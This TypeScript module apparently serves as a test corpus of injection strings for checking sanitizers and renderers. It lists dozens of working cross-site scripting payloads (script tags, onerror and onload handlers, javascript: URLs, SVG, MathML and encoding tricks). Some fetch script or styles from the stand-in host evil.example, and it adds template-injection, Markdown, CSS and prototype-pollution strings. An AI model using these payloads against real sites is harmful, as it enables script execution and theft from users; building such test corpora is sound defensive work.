/**
 * Texts that would do something where a page took them for more than text: as elements, attributes, addresses, templates,
 * styles or Markdown. What they do is call `ran()` or ask `evil.example`; whoever opens them sets the trap.
 */
export const TRAP = 'ran'
export const ELSEWHERE = 'evil.example'

/** Do something, or leave an element that could, as soon as a page takes them for HTML. */
export const MARKUP: readonly string[] = [
  '<script>ran()</script>', '<script src=//evil.example/x.js></script>', '<SCRIPT >ran()</SCRIPT\n>', '<scr<script>ipt>ran()</script>', '<svg><script>ran()</script></svg>', '<svg><script href="data:,ran()"/>',
  '<img src=x onerror=ran()>', '<img src=x onerror="ran()"//', '<IMG SRC=x oNeRrOr=ran()>', '<img/src=x/onerror=ran()>', '<img src=x onerror=&#114;an()>', '<img src="x`" onerror=ran()>', '<img src=//evil.example/pixel.gif>', '<img srcset="//evil.example/p 1x">',
  '"><img src=x onerror=ran()>', "'><svg onload=ran()>", '</textarea><img src=x onerror=ran()>', '</title><svg onload=ran()>', '--><img src=x onerror=ran()>', ']]><svg onload=ran()>', '</option></select><img src=x onerror=ran()>',
  '<svg onload=ran()>', '<svg/onload=ran()//', '<svg><animate onbegin=ran() attributeName=x dur=1s>', '<svg><a xlink:href="javascript:ran()"><text y=9>a</text></a></svg>', '<svg><use href="data:image/svg+xml,<svg onload=ran()>#x">', '<svg><set onbegin=ran() attributeName=x>', '<svg><foreignObject><img src=x onerror=ran()>',
  '<math><a xlink:href=javascript:ran()>a</a></math>', '<math><mtext><table><mglyph><style><img src=x onerror=ran()>', '<svg></p><style><a id="</style><img src=1 onerror=ran()>">', '<noscript><p title="</noscript><img src=x onerror=ran()>">',
  '<a href="javascript:ran()">a</a>', '<a href="java\tscript:ran()">a</a>', '<a href="&#106;avascript:ran()">a</a>', '<a href=" javascript:ran()">a</a>', '<a href="data:text/html,<script>ran()</script>">a</a>',
  '<form action=javascript:ran()><button>a</button></form>', '<button formaction=javascript:ran()>a</button>', '<input autofocus onfocus=ran()>', '<details open ontoggle=ran()>', '<marquee onstart=ran()>a</marquee>', '<body onload=ran()>a<p onclick=ran()>',
  '<video><source onerror=ran()></video>', '<audio src=x onerror=ran()>', '<video poster=//evil.example/p>', '<iframe src=javascript:ran()></iframe>', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>', '<iframe src=//evil.example></iframe>', '<object data=javascript:ran()></object>', '<embed src=javascript:ran()>',
  '<base href=//evil.example/>', '<meta http-equiv=refresh content="0;url=//evil.example/">', '<link rel=stylesheet href=//evil.example/x.css>', '<style>@import "//evil.example/x.css"</style>', '<div style="background:url(//evil.example/p)">a</div>',
  '\u202e<img src=x onerror=ran()>\u202c', '<\u200bimg src=x onerror=ran()><img\u000csrc=x\u000conerror=ran()>', '%3Cimg src=x%3E<p onmouseover=ran()>a',
]

/** Harmless as HTML; they do something where a template, a style, a link or Markdown is made of a text. */
export const OTHER: readonly string[] = [
  'javascript:ran()', 'JaVaScRiPt:ran()', 'java\u00adscript:ran()', '//evil.example/x', 'data:text/html,<script>ran()</script>', "';ran();//", '`${ran()}`', '{{constructor.constructor("ran()")()}}', '${ran()}', '#{ran()}', '<%= ran() %>', '{ran()}',
  '[a](javascript:ran())', '![a](//evil.example/p.png)', '`<img src=x onerror=ran()>`', '\\u003cimg src=x onerror=ran()\\u003e', '＜img src=x onerror=ran()＞', '&lt;img src=x onerror=ran()&gt;', 'a}*{background:url(//evil.example/p)}', 'expression(ran())', '__proto__', 'constructor',
]

export const CORPUS: readonly string[] = [...MARKUP, ...OTHER]
